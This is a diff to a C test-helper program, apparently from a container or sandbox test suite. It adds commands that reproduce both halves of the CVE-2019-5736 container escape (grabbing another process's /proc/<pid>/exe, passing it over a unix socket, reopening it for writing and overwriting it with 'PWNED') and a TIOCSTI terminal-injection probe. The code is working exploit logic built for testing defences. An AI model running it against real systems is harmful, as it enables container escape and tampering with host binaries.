@@ -34,6 +34,16 @@
  *   sendfds PATH      sendfds:PATH=ok  (connects to the unix socket PATH and passes it fds 1
  *                     and 2 with SCM_RIGHTS: a holder outside keeps the output pipes open)
  *   deeptree N        deeptree:N=ok  (/deeptree/d/d/... N directories deep, one fd at a time)
+ *   send-exe SOCK:NAME  waits (20 s at most) for another process with an argument equal to
+ *                     NAME whose /proc/<pid>/exe opens with O_PATH and passes that fd over the
+ *                     unix socket SOCK: send-exe:SOCK:NAME=ok, or the errno of the last try
+ *                     (CVE-2019-5736's first half)
+ *   reopen-exe SOCK   listens on SOCK (60 s at most) for one such fd, reopens it for writing
+ *                     through /proc/self/fd/N (retrying 30 s while it is busy, ETXTBSY) and
+ *                     overwrites its first 5 bytes: reopen-exe:SOCK=<open> <write>, each ok or
+ *                     the errno name, "-" for a write not tried (the second half)
+ *   tiocsti           TIOCSTI of one byte on fds 0-2: tiocsti:N=ok or the errno name, and
+ *                     sid=<getsid(0)>
  *   sleep N           sleeps N seconds
  *   exit N            flushes and exits with N
  */
@@ -43,6 +53,7 @@
 #include <grp.h>
 #include <linux/sched.h>
 #include <net/if.h>
+#include <poll.h>
 #include <pthread.h>
 #include <sched.h>
 #include <sys/mount.h>
@@ -485,6 +496,169 @@ static void cmd_statfs(const char *path)
            (sv.f_flag & ST_RDONLY) ? "ro" : "rw");
 }
 
+/* An argument of pid's command line equals name. */
+static int cmdline_has(const char *pid, const char *name)
+{
+    char path[300], buf[4096];
+    snprintf(path, sizeof(path), "/proc/%s/cmdline", pid);
+    int fd = open(path, O_RDONLY | O_CLOEXEC);
+    if (fd < 0)
+        return 0;
+    ssize_t n = read(fd, buf, sizeof(buf) - 1);
+    close(fd);
+    for (ssize_t i = 0; i < n; i += (ssize_t)strlen(buf + i) + 1) {
+        buf[n] = '\0';
+        if (strcmp(buf + i, name) == 0)
+            return 1;
+    }
+    return 0;
+}
+
+/* The fd of /proc/<pid>/exe of another process whose command line has name, as an attacker
+ * would take it: retried over every such process until one opens (a process that is not
+ * dumpable refuses), or the last errno. */
+static int open_exe_of(const char *name)
+{
+    char self[16];
+    snprintf(self, sizeof(self), "%d", (int)getpid());
+    int last = ESRCH;
+    for (int tries = 0; tries < 2000; tries++) {
+        DIR *d = opendir("/proc");
+        struct dirent *e;
+        while (d && (e = readdir(d))) {
+            if (e->d_name[0] < '1' || e->d_name[0] > '9' || strcmp(e->d_name, self) == 0 ||
+                !cmdline_has(e->d_name, name))
+                continue;
+            char path[300];
+            snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
+            int fd = open(path, O_PATH | O_CLOEXEC);
+            if (fd >= 0) {
+                closedir(d);
+                return fd;
+            }
+            last = errno;
+        }
+        if (d)
+            closedir(d);
+        usleep(10000);
+    }
+    errno = last;
+    return -1;
+}
+
+static void unix_addr(struct sockaddr_un *a, const char *path, size_t len)
+{
+    memset(a, 0, sizeof(*a));
+    a->sun_family = AF_UNIX;
+    memcpy(a->sun_path, path, len < sizeof(a->sun_path) - 1 ? len : sizeof(a->sun_path) - 1);
+}
+
+static void cmd_send_exe(const char *arg)
+{
+    const char *colon = strchr(arg, ':');
+    if (!colon) {
+        printf("send-exe:%s=EINVAL\n", arg);
+        return;
+    }
+    int fd = open_exe_of(colon + 1);
+    if (fd < 0) {
+        printf("send-exe:%s=%s\n", arg, errname(errno));
+        return;
+    }
+    struct sockaddr_un a;
+    unix_addr(&a, arg, (size_t)(colon - arg));
+    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    char byte = 'x';
+    struct iovec iov = {.iov_base = &byte, .iov_len = 1};
+    union {
+        struct cmsghdr h;
+        char buf[CMSG_SPACE(sizeof(int))];
+    } c = {0};
+    struct msghdr m = {
+        .msg_iov = &iov, .msg_iovlen = 1, .msg_control = c.buf, .msg_controllen = sizeof(c.buf)};
+    struct cmsghdr *h = CMSG_FIRSTHDR(&m);
+    h->cmsg_level = SOL_SOCKET;
+    h->cmsg_type = SCM_RIGHTS;
+    h->cmsg_len = CMSG_LEN(sizeof(int));
+    memcpy(CMSG_DATA(h), &fd, sizeof(int));
+    if (s < 0 || connect(s, (struct sockaddr *)&a, sizeof(a)) < 0 || sendmsg(s, &m, 0) != 1)
+        printf("send-exe:%s=%s\n", arg, errname(errno));
+    else
+        printf("send-exe:%s=ok\n", arg);
+    if (s >= 0)
+        close(s);
+    close(fd);
+}
+
+static int receive_fd(const char *path)
+{
+    struct sockaddr_un a;
+    unix_addr(&a, path, strlen(path));
+    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(s, 1) < 0)
+        return -1;
+    struct pollfd p = {.fd = s, .events = POLLIN};
+    if (poll(&p, 1, 60000) != 1) {
+        close(s);
+        errno = ETIMEDOUT;
+        return -1;
+    }
+    int conn = accept4(s, NULL, NULL, SOCK_CLOEXEC);
+    close(s);
+    if (conn < 0)
+        return -1;
+    char byte;
+    struct iovec iov = {.iov_base = &byte, .iov_len = 1};
+    union {
+        struct cmsghdr h;
+        char buf[CMSG_SPACE(sizeof(int))];
+    } c;
+    struct msghdr m = {
+        .msg_iov = &iov, .msg_iovlen = 1, .msg_control = c.buf, .msg_controllen = sizeof(c.buf)};
+    int fd = -1;
+    if (recvmsg(conn, &m, MSG_CMSG_CLOEXEC) == 1 && CMSG_FIRSTHDR(&m) &&
+        CMSG_FIRSTHDR(&m)->cmsg_type == SCM_RIGHTS)
+        memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof(int));
+    else
+        errno = EPROTO;
+    close(conn);
+    return fd;
+}
+
+static void cmd_reopen_exe(const char *sock)
+{
+    int held = receive_fd(sock);
+    if (held < 0) {
+        printf("reopen-exe:%s=%s -\n", sock, errname(errno));
+        return;
+    }
+    char via[64];
+    snprintf(via, sizeof(via), "/proc/self/fd/%d", held);
+    int fd = -1;
+    for (int tries = 0; tries < 3000; tries++) {
+        fd = open(via, O_WRONLY | O_CLOEXEC);
+        if (fd >= 0 || errno != ETXTBSY)
+            break;
+        usleep(10000);
+    }
+    if (fd < 0) {
+        printf("reopen-exe:%s=%s -\n", sock, errname(errno));
+        return;
+    }
+    const char *w = pwrite(fd, "PWNED", 5, 0) == 5 ? "ok" : errname(errno);
+    printf("reopen-exe:%s=ok %s\n", sock, w);
+    close(fd);
+}
+
+static void cmd_tiocsti(void)
+{
+    for (int fd = 0; fd < 3; fd++) {
+        char c = '#';
+        printf("tiocsti:%d=%s\n", fd, ioctl(fd, TIOCSTI, &c) == 0 ? "ok" : errname(errno));
+    }
+    printf("sid=%d\n", (int)getsid(0));
+}
+
 static void cmd_hostname(void)
 {
     struct utsname u;
@@ -585,6 +759,8 @@ int main(int argc, char **argv)
             cmd_hostname(), one = 0;
         else if (strcmp(c, "pid") == 0)
             printf("pid=%d\nppid=%d\n", (int)getpid(), (int)getppid()), one = 0;
+        else if (strcmp(c, "tiocsti") == 0)
+            cmd_tiocsti(), one = 0;
         else if (strcmp(c, "segv") == 0)
             crash(), one = 0;
         else if (strcmp(c, "args") == 0) {
@@ -624,6 +800,10 @@ int main(int argc, char **argv)
             cmd_deeptree(arg);
         else if (strcmp(c, "ptrace") == 0)
             cmd_ptrace(arg);
+        else if (strcmp(c, "send-exe") == 0)
+            cmd_send_exe(arg);
+        else if (strcmp(c, "reopen-exe") == 0)
+            cmd_reopen_exe(arg);
         else if (strcmp(c, "sleep") == 0)
             sleep((unsigned)atoi(arg));
         else if (strcmp(c, "exit") == 0) {
